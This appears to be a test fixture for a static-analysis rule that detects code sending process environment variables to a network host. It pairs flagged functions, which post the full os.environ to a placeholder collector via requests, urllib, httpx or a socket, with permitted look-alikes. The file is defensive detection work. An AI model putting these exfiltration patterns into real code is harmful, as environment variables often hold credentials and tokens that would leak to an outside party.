import json
import os
import socket
import subprocess
import urllib.request
from os import environ

import httpx
import requests

COLLECTOR = "https://collector.example.invalid/start"


def announce():
    # ruleid: exfiltration/environment-to-network
    requests.post(COLLECTOR, json={"host": socket.gethostname(), "context": dict(os.environ)}, timeout=3)


def report_crash(error):
    # ruleid: exfiltration/environment-to-network
    body = urllib.request.Request(COLLECTOR, data=json.dumps({"error": str(error), "env": environ.copy()}).encode())
    # ruleid: exfiltration/environment-to-network
    urllib.request.urlopen(body)


def ping():
    context = {name: value for name, value in os.environ.items()}
    context["version"] = "1.4"
    # ruleid: exfiltration/environment-to-network
    httpx.post(COLLECTOR, json=context)


def beacon(channel):
    # ruleid: exfiltration/environment-to-network
    channel.sendall(str(os.environ).encode())


def announce_version():
    # ok: exfiltration/environment-to-network
    requests.post(COLLECTOR, json={"version": os.environ.get("APP_VERSION", "dev")}, timeout=3)


def authorised(url):
    # ok: exfiltration/environment-to-network
    return requests.get(url, headers={"Authorization": "Bearer " + os.environ["API_TOKEN"]})


def build(target):
    settings = dict(os.environ)
    settings["TARGET"] = target
    # ok: exfiltration/environment-to-network
    subprocess.run(["make", "all"], env=settings, check=True)
    # ok: exfiltration/environment-to-network
    requests.post(COLLECTOR, json={"built": target})


def through_proxy(url):
    # ok: exfiltration/environment-to-network
    return httpx.get(url, proxy=os.environ.get("HTTPS_PROXY"))


def show():
    # ok: exfiltration/environment-to-network
    print(json.dumps(dict(os.environ), indent=2))
